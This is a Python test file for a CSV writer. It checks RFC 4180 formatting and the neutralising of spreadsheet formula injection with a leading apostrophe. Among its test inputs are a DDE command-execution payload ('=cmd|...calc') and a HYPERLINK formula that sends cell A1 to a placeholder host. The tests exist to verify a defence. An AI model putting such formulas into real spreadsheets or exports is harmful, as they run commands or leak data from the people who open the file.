"""The one writer of CSV: what RFC 4180 says, nothing that a spreadsheet would run, and the way back."""

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as some

from ceremony_archive.exports.csv_table import csv_table, guarded, unguarded

FORMULA_SIGNS = "=+-@\t\r＝＋－＠"  # noqa: RUF001  the full-width ones are the point
CONTROLS = [chr(code) for code in (*range(0x20), 0x7F) if chr(code) not in "\t\n\r"]
ALLOWED = some.characters(exclude_categories=["Cs"], exclude_characters=CONTROLS)
# Texts made mostly of what matters: signs, apostrophes, quotes, separators, white space of all kinds.
TEXT = some.text(some.sampled_from(f"{FORMULA_SIGNS}'\",;\n \u00a0\u3000aÊ1.") | ALLOWED)


def read(content: bytes) -> list[list[str]]:
    """Return the cells as Python reads them, strictly."""
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline=""), strict=True))


def read_strictly(content: bytes) -> list[list[str]]:
    """Return the cells by the grammar of RFC 4180, section 2, and nothing beside it.

    A record ends in CRLF; a field is either quoted, with its quotes doubled, or has no quote, comma, CR or LF.
    """
    text = content.decode("utf-8")
    field = re.compile(r'"((?:[^"]|"")*)"|([^",\r\n]*)')
    records: list[list[str]] = []
    position = 0
    while position < len(text):
        record: list[str] = []
        while True:
            match = field.match(text, position)
            assert match is not None
            quoted, plain = match.groups()
            record.append(plain if quoted is None else quoted.replace('""', '"'))
            position = match.end()
            if not text.startswith(",", position):
                break
            position += 1
        assert text.startswith("\r\n", position), f"a record ends in {text[position : position + 2]!r}"
        position += 2
        records.append(record)
    return records


def runs_as_formula(cell: str) -> bool:
    """Tell whether a spreadsheet may take the cell for a formula."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in tuple(FORMULA_SIGNS)


def test_the_header_stands_first_and_every_line_ends_in_crlf_without_a_byte_order_mark() -> None:
    content = csv_table(["id", "name"], [["a", 'Mẫu "Một", hai'], ["b", "hai\ndòng"]])
    assert content == 'id,name\r\na,"Mẫu ""Một"", hai"\r\nb,"hai\ndòng"\r\n'.encode()


def test_a_table_without_rows_has_its_header() -> None:
    assert csv_table(["id", "name"], []) == b"id,name\r\n"


def test_what_is_not_stated_is_an_empty_cell_and_zero_is_a_number() -> None:
    assert csv_table(["a", "b", "c", "d"], [[None, 0, True, False]]) == b"a,b,c,d\r\n,0,true,false\r\n"


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (Decimal("-3.5"), "-3.5"),
        (-3, "-3"),
        (Decimal("141.71"), "141.71"),
        (Decimal("0.00000012"), "0.00000012"),
        (Decimal("1200"), "1200"),
    ],
)
def test_a_number_is_written_as_it_is(number: int | Decimal, written: str) -> None:
    assert csv_table(["n"], [[number]]) == f"n\r\n{written}\r\n".encode()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+84 900",
        "-3.5",
        "@SUM(A1)",
        "\t=1",
        "\rx",
        "\tx",
        " =1",
        "\n=1",
        "\u00a0=1",
        "\u3000+1",
        "＝1",  # noqa: RUF001
        "＋1",  # noqa: RUF001
        "－1",  # noqa: RUF001
        "＠x",  # noqa: RUF001
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://a.example?"&A1,"x")',
    ],
)
def test_a_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert read(csv_table(["a"], [[text]])) == [["a"], [f"'{text}"]]


@pytest.mark.parametrize("text", ["Huyện Mẫu", "2030/2031", "a=b", "1-2", "'quoted'", "'", "", "“=”", "x\t=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert (guarded(text), unguarded(text)) == (text, text)


@pytest.mark.parametrize("text", ["'=1", "''=1", "' =1"])
def test_what_looks_guarded_gets_one_more_apostrophe_so_that_the_way_back_is_one(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(rows=some.lists(some.lists(TEXT, min_size=3, max_size=3)))
@example(rows=[["'=1", "''=1", "=1"]])
@example(rows=[["", "", ""], ["\r\n", "\n", "\r"]])
def test_any_text_comes_back_from_a_file_that_follows_the_standard(rows: list[list[str]]) -> None:
    content = csv_table(["a", "b", "c"], rows)
    cells = read_strictly(content)
    assert read(content) == cells
    assert [[unguarded(cell) for cell in row] for row in cells[1:]] == rows


@given(text=TEXT)
def test_no_text_runs_as_a_formula(text: str) -> None:
    cell = read_strictly(csv_table(["a"], [[text]]))[1][0]
    assert not runs_as_formula(cell)


@given(first=TEXT, second=TEXT)
@example(first="=1", second="'=1")
def test_two_texts_are_never_one_cell(first: str, second: str) -> None:
    assert (guarded(first) == guarded(second)) == (first == second)


@pytest.mark.parametrize("control", CONTROLS, ids=ascii)
def test_a_control_character_is_refused(control: str) -> None:
    with pytest.raises(ValueError, match="a control character"):
        csv_table(["a"], [[f"x{control}y"]])


@pytest.mark.parametrize("row", [["a"], ["a", "b", "c"]])
def test_a_row_of_another_length_than_the_header_is_refused(row: list[str]) -> None:
    with pytest.raises(ValueError, match="cells under 2 heads"):
        csv_table(["a", "b"], [row])
